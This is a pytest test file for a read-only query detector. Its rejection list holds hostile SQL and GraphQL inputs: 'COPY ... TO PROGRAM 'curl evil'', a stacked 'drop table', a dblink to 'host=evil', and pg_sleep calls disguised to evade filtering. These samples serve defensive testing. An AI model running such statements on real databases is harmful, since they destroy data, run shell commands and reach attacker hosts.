"""Which texts are plainly one query that only reads."""

import pytest

from atc.safety.taint.reading_queries import is_reading_query


@pytest.mark.parametrize(
    "text",
    [
        "select count(*) from orders where updated_at > '2026-01-01'",
        "  SELECT name, total FROM orders;",
        "WITH x AS (SELECT * FROM orders) SELECT * FROM x",
        "EXPLAIN SELECT pg_size_pretty(pg_relation_size('orders'))",
        "show tables",
        "{ order(id: 5) { total } }",
        "query Total($id: ID!) { order(id: $id) { total } }",
    ],
)
def test_one_reading_statement_reads(text):
    assert is_reading_query(text)


@pytest.mark.parametrize(
    "text",
    [
        "DROP TABLE orders",
        "select 1; drop table orders",
        "WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x",
        "EXPLAIN ANALYZE UPDATE orders SET total = 0",
        "COPY orders TO PROGRAM 'curl evil'",
        "select * into copied from orders",
        "SELECT pg_terminate_backend(1)",
        'select "pg_sleep" (9)',
        "select pg_sleep/**/(9)",
        "select load_extension('x')",
        "select * from dblink('host=evil', 'select 1') as t(x int)",
        "mutation { deleteAll }",
        "query A { a } mutation B { deleteAll }",
        "with x as (table orders)",
        "ls",
        "",
    ],
)
def test_whatever_else_may_change_something(text):
    assert not is_reading_query(text)
